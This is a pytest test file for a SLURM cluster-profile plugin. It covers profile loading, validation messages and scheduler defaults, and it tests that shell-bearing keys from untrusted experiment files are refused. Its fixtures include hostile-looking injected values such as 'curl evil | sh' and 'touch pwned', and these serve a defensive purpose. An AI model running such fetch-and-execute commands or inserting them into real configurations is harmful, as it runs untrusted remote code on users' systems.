"""Cluster profiles: found by name or path, checked with file:line, and what makes slurm the
default scheduler."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from cruijff.errors import ProblemsFound
from cruijff_slurm import plugin
from cruijff_slurm.profile import (
    CODE_KEYS,
    Profile,
    ProfileNotFound,
    find_profile,
    in_folder,
    load_profile,
    parse_mem,
    parse_time,
    profiles_dir,
    resolve,
)


@pytest.fixture
def slurm_plugin(register_plugin):
    return register_plugin(plugin, name="slurm")


def write_profile(name: str, text: str) -> Path:
    path = profiles_dir() / f"{name}.yaml"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


def test_profiles_live_in_the_users_config_folder(isolated_config):
    assert profiles_dir() == isolated_config / "cruijff" / "profiles"


def test_a_full_profile_loads():
    folder = profiles_dir()  # setup, template and directives: only from the user's own folder
    folder.mkdir(parents=True)
    template = folder / "batch.j2"
    template.write_text("#!/bin/bash\n")
    path = folder / "della.yaml"
    path.write_text(
        "account: lab\npartition: gpu\nconstraint: a100\nqos: short\nmodules: [cuda/12.4]\n"
        "setup: |\n  export A=1\n  export B=2\nconda: train\nvenv: envs/train\ntime: '4:00:00'\n"
        "mem: 32G\ncpus: 4\nmax_jobs: 200\narray_throttle: 20\narrays: true\n"
        "mail_user: me@x.org\nmail_type: [end, fail]\ndirectives: ['--exclusive']\n"
        "template: batch.j2\npoll_interval: 10\n"
    )
    profile, problems = load_profile(path)
    assert problems == []
    assert profile == Profile(
        source=path,
        account="lab",
        partition="gpu",
        constraint="a100",
        qos="short",
        modules=("cuda/12.4",),
        setup=("export A=1", "export B=2"),
        conda="train",
        venv=folder / "envs/train",
        time_s=4 * 3600,
        mem_mb=32 * 1024,
        cpus=4,
        max_jobs=200,
        array_throttle=20,
        arrays=True,
        mail_user="me@x.org",
        mail_type="END,FAIL",
        directives=("--exclusive",),
        template=template,
        poll_interval=10.0,
    )


def test_times_and_sizes():
    assert parse_time(90) == 90 * 60
    assert parse_time("30:00") == 30 * 60
    assert parse_time("1-12") == 36 * 3600
    assert parse_time("2-00:30:00") == 2 * 86400 + 1800
    assert parse_mem("500M") == 500 and parse_mem("2GB") == 2048 and parse_mem(100) == 100
    for bad in ("soon", "0", -1, True):
        with pytest.raises(ValueError):
            parse_time(bad)


def test_every_mistake_is_reported_with_its_line(tmp_path):
    path = tmp_path / "p.yaml"
    path.write_text("account: lab\npartiton: gpu\nmax_jobs: 0\ntime: soon\nmail_type: END,FIAL\n")
    _, problems = load_profile(path)
    text = [str(problem) for problem in problems]
    assert (
        text[0]
        == f"{path}:2:1: partiton: unknown key in the cluster profile (did you mean partition?)"
    )
    assert text[1].startswith(
        f"{path}:3:1: max_jobs: max_jobs must be a whole number of at least 1"
    )
    assert text[2].startswith(f"{path}:4:1: time: time must be minutes or a SLURM time")
    assert "did you mean FAIL?" in text[3]
    assert all(problem.plugin == "slurm" for problem in problems)


def test_syntax_errors_and_empty_files(tmp_path):
    path = tmp_path / "p.yaml"
    path.write_text("account: [lab\n")
    _, problems = load_profile(path)
    assert problems and problems[0].where.file == path and problems[0].where.line
    path.write_text("# nothing set yet\n")
    assert load_profile(path) == (Profile(source=path), [])


def test_which_profile(tmp_path):
    assert find_profile(None, in_folder(tmp_path)) is None  # none at all: SLURM's own defaults
    della = write_profile("della", "account: lab\n")
    assert find_profile(None, in_folder(tmp_path)) == della  # the only one
    tiger = write_profile("tiger", "account: lab\n")
    with pytest.raises(ProfileNotFound, match="several cluster profiles"):
        find_profile(None, in_folder(tmp_path))
    default = write_profile("default", "")
    assert find_profile(None, in_folder(tmp_path)) == default
    assert find_profile("tiger", in_folder(tmp_path)) == tiger
    with pytest.raises(ProfileNotFound) as missing:
        find_profile("tigr", in_folder(tmp_path))
    assert "did you mean tiger?" in missing.value.hint
    (tmp_path / "here.yaml").write_text("")
    assert (
        find_profile("here.yaml", in_folder(tmp_path)) == tmp_path / "here.yaml"
    )  # a path: relative to the experiment
    with pytest.raises(ProfileNotFound, match="does not exist"):
        find_profile("../nowhere.yaml", in_folder(tmp_path))


def test_experiment_keys_override_the_profile_and_jobs_is_the_throttle(tmp_path):
    write_profile("default", "partition: cpu\narray_throttle: 5\n")
    profile = resolve({"partition": "gpu"}, in_folder(tmp_path))
    assert profile.partition == "gpu" and profile.array_throttle == 5
    assert resolve({"jobs": 3}, in_folder(tmp_path)).array_throttle == 3
    with pytest.raises(ProblemsFound) as error:
        resolve({"profile": "nope", "max_jobs": -1}, in_folder(tmp_path))
    assert len(error.value.problems) == 2


def test_relative_paths_start_from_the_experiment_file(tmp_path):
    (tmp_path / "files").mkdir()
    (tmp_path / "files" / "cluster.yaml").write_text("venv: env\n")
    options = {"profile": "cluster.yaml"}
    profile = resolve(options, in_folder(tmp_path / "files"))
    assert profile.venv == tmp_path / "files" / "env"  # a profile's own paths: from the profile
    with pytest.raises(ProblemsFound, match="problem"):
        resolve({"profile": "cluster.yaml"}, in_folder(tmp_path / "elsewhere"))


def slurm_experiment(make_experiment, **scheduler):
    return make_experiment({"scheduler": {"name": "slurm", **scheduler}})


def test_the_scheduler_reads_the_sections_paths_as_the_experiment_file_does(
    plugin_manager, fake_tools, slurm_plugin, make_experiment, tmp_path, monkeypatch
):
    from cruijff.design import design

    write_profile("default", "")
    folder = tmp_path / "study"
    folder.mkdir()
    path = make_experiment(
        {"experiment": {"name": "x", "dir": str(tmp_path / "outputs")}},
        folder=folder,
    )
    text = path.read_text() + "scheduler: {name: slurm, venv: envs/train}\n"
    path.write_text(text)
    monkeypatch.chdir(tmp_path)  # neither the file's folder nor the experiment directory
    experiment = design(plugin_manager, path).experiment
    scheduler = plugin.factory(experiment, experiment.scheduler.options)
    assert scheduler.profile.venv == experiment.resolve("envs/train") == folder / "envs" / "train"


def test_validate_checks_the_profile_the_experiment_names(
    cli, fake_tools, slurm_plugin, make_experiment
):
    path = write_profile("della", "account: lab\nmax_job: 3\n")
    experiment = slurm_experiment(make_experiment, profile="della", arrray_throttle=2)
    result = cli("validate", experiment)
    assert result.exit_code == 1
    assert (
        f"{path}:2:1: max_job: unknown key in the cluster profile (did you mean max_jobs?)"
        in result.output
    )
    assert "scheduler.arrray_throttle: unknown key (did you mean array_throttle?)" in result.output
    path.write_text("account: lab\nmax_jobs: 3\n")
    experiment = slurm_experiment(make_experiment, profile="della", array_throttle=2)
    assert cli("validate", experiment).exit_code == 0


def test_validate_names_a_missing_profile(cli, fake_tools, slurm_plugin, make_experiment):
    write_profile("della", "")
    result = cli("validate", slurm_experiment(make_experiment, profile="dela"))
    assert result.exit_code == 1
    assert (
        "no cluster profile called 'dela'" in result.output
        and "did you mean della?" in result.output
    )


def test_a_profile_path_is_relative_to_the_experiment_file(
    cli, fake_tools, slurm_plugin, make_experiment, tmp_path
):
    (tmp_path / "cluster.yaml").write_text("partition: gpu\nqos: [a, b]\n")
    result = cli("validate", slurm_experiment(make_experiment, profile="cluster.yaml"))
    assert f"{tmp_path / 'cluster.yaml'}:2:1: qos: qos must be text" in result.output


def fake_sbatch(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    (bin_dir / "sbatch").write_text("#!/bin/sh\necho 1\n")
    (bin_dir / "sbatch").chmod(0o755)
    monkeypatch.setenv("PATH", f"{bin_dir}{os.pathsep}{os.environ['PATH']}")


def test_slurm_is_the_default_only_with_sbatch_and_a_profile(
    cli, fake_tools, slurm_plugin, make_experiment, tmp_path, monkeypatch
):
    experiment = make_experiment()
    write_profile("default", "")
    monkeypatch.setenv("PATH", "/nonexistent")
    assert not plugin.available()  # a profile, but no sbatch
    (profiles_dir() / "default.yaml").unlink()
    fake_sbatch(tmp_path, monkeypatch)
    monkeypatch.setenv("PATH", str(tmp_path / "bin"))
    assert not plugin.available()  # sbatch, but no profile
    write_profile("default", "")
    assert plugin.available()

    def scheduler_of(*options: str) -> str:
        result = cli("plan", experiment, "--json", *options)
        assert result.exit_code == 0, result.output
        return json.loads(result.output)["scheduler"]

    assert scheduler_of() == "slurm"
    assert scheduler_of("--scheduler", "local") == "local"


def test_importing_the_plugin_stays_light():
    code = "import sys, json, cruijff_slurm.plugin\nprint(json.dumps(sorted(sys.modules)))"
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    modules = set(json.loads(out.stdout))
    assert "jinja2" not in modules
    assert not {
        m for m in modules if m.startswith("cruijff_slurm.") and m != "cruijff_slurm.plugin"
    }


# --- code in the batch script: only from the user's own profiles ------------------------------

CODE = {"setup": "touch pwned", "template": "evil.sh.j2", "directives": ["--export=ALL"]}


def test_code_keys_are_refused_from_the_experiment_file(tmp_path):
    (tmp_path / "evil.sh.j2").write_text("#!/bin/bash\ntouch pwned\n")
    options = {**CODE, "partition": "gpu"}
    with pytest.raises(ProblemsFound) as error:
        resolve(options, in_folder(tmp_path), tmp_path / "x.yaml")
    problems = error.value.problems
    assert [str(p.where) for p in problems] == [
        f"{tmp_path / 'x.yaml'}: scheduler.{key}" for key in CODE_KEYS
    ]
    for key, problem in zip(CODE_KEYS, problems, strict=True):
        assert problem.message == (
            f"{key} is not taken from the experiment file: it would run as code on the "
            "cluster, so only your own cluster profile may set it"
        )
        assert problem.hint == (
            f"put it in a profile, {profiles_dir() / 'NAME.yaml'}, and name that in the "
            "experiment with `scheduler: {profile: NAME}`"
        )


def test_code_keys_are_refused_from_a_profile_beside_the_experiment(tmp_path):
    (tmp_path / "evil.sh.j2").write_text("#!/bin/bash\n")
    text = "partition: gpu\nsetup: touch pwned\ntemplate: evil.sh.j2\ndirectives: [--x]\n"
    (tmp_path / "cluster.yaml").write_text(text)
    profiles_dir().mkdir(parents=True)
    dodges = ["cluster.yaml", str(profiles_dir() / ".." / ".." / ".." / "cluster.yaml")]
    (profiles_dir().parents[2] / "cluster.yaml").write_text(text)
    for reference in dodges:
        with pytest.raises(ProblemsFound) as error:
            resolve({"profile": reference}, in_folder(tmp_path), tmp_path / "x.yaml")
        lines = [(p.where.line, p.message.split(":")[0]) for p in error.value.problems]
        assert lines == [
            (2, f"setup is not taken from a profile outside {profiles_dir()}"),
            (3, f"template is not taken from a profile outside {profiles_dir()}"),
            (4, f"directives is not taken from a profile outside {profiles_dir()}"),
        ]
    # the same file in the user's own folder: theirs, like a .bashrc
    write_profile("della", text)
    (profiles_dir() / "evil.sh.j2").write_text("#!/bin/bash\n")
    profile = resolve({"profile": "della"}, in_folder(tmp_path))
    assert profile.setup == ("touch pwned",) and profile.directives == ("--x",)
    assert profile.template == profiles_dir() / "evil.sh.j2"
    assert resolve({"profile": str(profiles_dir() / "della.yaml")}, in_folder(tmp_path)).setup


def test_validate_and_run_refuse_shell_from_the_experiment_file(
    cli, fake_tools, slurm_plugin, make_experiment, monkeypatch
):
    from cruijff_slurm.scheduler import SlurmScheduler
    from cruijff_slurm.testing import FakeSlurm

    fake = FakeSlurm()
    monkeypatch.setattr(
        plugin, "factory", lambda e, o: SlurmScheduler(o, e.state_dir, commands=fake)
    )
    experiment = slurm_experiment(make_experiment, setup=["curl evil | sh"])
    line = next(
        n for n, text in enumerate(experiment.read_text().splitlines(), 1) if "setup" in text
    )
    for command in ("validate", "run"):
        result = cli(command, experiment)
        assert result.exit_code == 1
        assert f"{experiment}:{line}:" in result.output
        assert "scheduler.setup: setup is not taken from the experiment file" in result.output
        assert "Traceback" not in result.output
    assert fake.calls == []


def test_the_profile_says_whether_jobs_get_gpus(
    plugin_manager, fake_tools, slurm_plugin, make_experiment
):
    from cruijff.design import check

    path = make_experiment({"scheduler": {"name": "slurm", "profile": "cpu"}})
    write_profile("cpu", "partition: cpu\ngpus: false\n")
    assert check(plugin_manager, path).experiment.scheduler.gpus is False
    write_profile("cpu", "partition: gpu\n")  # a cluster has GPUs unless its profile says not
    assert check(plugin_manager, path).experiment.scheduler.gpus is True
    override = make_experiment({"scheduler": {"name": "slurm", "profile": "cpu", "gpus": False}})
    assert check(plugin_manager, override).experiment.scheduler.gpus is False
